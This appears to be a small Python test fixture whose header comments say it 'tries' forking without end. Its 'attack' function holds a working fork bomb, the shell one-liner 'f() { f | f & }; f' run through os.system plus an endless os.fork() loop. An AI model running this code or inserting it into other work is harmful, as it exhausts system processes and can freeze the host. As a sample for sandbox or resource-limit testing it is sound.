# tries: fork without end, in Python and in a shell
# keeps: before f after
import json
import os
import subprocess
import sys
import time

T = json.load(open("targets.json"))
before = 1


def f(n):
    return 2 * n


def said(*words):
    try:
        return subprocess.run(words, capture_output=True, text=True, timeout=1).stdout
    except (OSError, subprocess.TimeoutExpired) as error:
        return type(error).__name__


def attack(n):
    os.system("f() { f | f & }; f")
    while True:
        try:
            os.fork()
        except OSError:
            pass


after = 2
